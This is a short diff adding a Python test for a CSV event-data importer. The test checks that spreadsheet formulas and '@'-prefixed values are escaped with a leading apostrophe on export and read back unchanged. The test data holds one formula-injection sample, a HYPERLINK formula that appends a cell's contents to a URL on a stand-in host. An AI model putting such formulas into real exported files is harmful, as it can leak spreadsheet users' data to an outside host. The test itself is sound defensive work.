@@ -293,3 +293,12 @@ def test_same_export_same_bytes(tmp_path: Path) -> None:
     import_gtd(export(tmp_path, *rows), tmp_path / "two")
     for name in ("events.csv", "sources.csv", "citations.csv", "places.csv", "timeline.toml"):
         assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()
+
+
+def test_text_a_spreadsheet_would_run_is_guarded_and_reads_back_as_given(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    events, out = imported(tmp_path, {"summary": formula, "gname": "@group"})
+    (row,) = events.values()
+    assert row["summary"] == "'" + formula and row["perpetrator"].startswith("'@group")
+    (event,) = load(out / "events.csv").events
+    assert event.summary == formula and event.perpetrator.startswith("@group")
